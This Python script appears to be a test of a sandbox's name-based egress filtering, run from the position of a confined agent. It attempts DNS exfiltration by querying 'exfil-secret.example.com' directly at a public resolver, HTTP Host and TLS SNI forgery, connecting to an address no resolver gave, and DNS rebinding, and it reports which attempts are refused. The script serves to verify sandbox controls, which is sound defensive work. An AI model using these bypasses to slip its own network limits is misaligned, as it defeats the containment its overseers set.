"""What a sandbox with rules by name can reach, tried the ways an agent would: names
allowed and not, a query straight to a public resolver (exfiltration by DNS), HTTP with
its own Host, TLS with a forged server name, an address no resolver gave, and a name
rules allow whose answer is the host itself (rebinding).

    egress.py HOSTNAME PORT   (HOSTNAME:PORT is allowed by name and resolves to the host)

Prints one line per attempt: `<attempt> ok <what>` or `<attempt> refused <why>`.
"""
import socket
import ssl
import struct
import sys

host_name, host_port = sys.argv[1], int(sys.argv[2])


def attempt(what, f):
    try:
        print(what, "ok", f(), flush=True)
    except Exception as e:  # noqa: BLE001 - every failure is an answer here
        print(what, "refused", type(e).__name__, flush=True)


def raw_query(server, name):
    """The response code of an A query sent straight to `server`."""
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    q = struct.pack(">HHHHHH", 0x5A5A, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(q, (server, 53))
    r = s.recv(512)
    return r[3] & 15


def http(ip, host):
    s = socket.create_connection((ip, 80), timeout=10)
    s.sendall(f"GET /debian/ HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    first = s.recv(64)
    if not first:
        raise ConnectionResetError("closed before an answer")
    return first.split(b"\r\n")[0].decode().replace(" ", "_")


def tls(ip, name):
    s = socket.create_connection((ip, 443), timeout=10)
    ctx = ssl.create_default_context()
    # Whatever certificate answers: what matters is whether anything does.
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(s, server_hostname=name).version()


def plain(ip, port):
    s = socket.create_connection((ip, port), timeout=5)
    first = s.recv(64)
    if not first:
        raise ConnectionResetError("closed before an answer")
    return first.decode().strip().replace(" ", "_")


attempt("dns-allowed", lambda: socket.gethostbyname("deb.debian.org"))
attempt("dns-denied", lambda: socket.gethostbyname("example.com"))
attempt("dns-raw-denied", lambda: raw_query("8.8.8.8", "exfil-secret.example.com"))
attempt("dns-raw-allowed", lambda: raw_query("8.8.8.8", "deb.debian.org"))
deb = socket.gethostbyname("deb.debian.org")
pypi = socket.gethostbyname("pypi.org")
attempt("http-allowed", lambda: http(deb, "deb.debian.org"))
attempt("http-host-forged", lambda: http(deb, "example.com"))
attempt("http-address-not-given", lambda: http("1.1.1.1", "deb.debian.org"))
attempt("tls-allowed", lambda: tls(pypi, "pypi.org"))
attempt("tls-sni-forged", lambda: tls(pypi, "example.com"))
attempt("rebind-dns", lambda: socket.gethostbyname(host_name))
for addr in sys.argv[3:]:
    attempt("rebind-connect-" + addr, lambda: plain(addr, host_port))
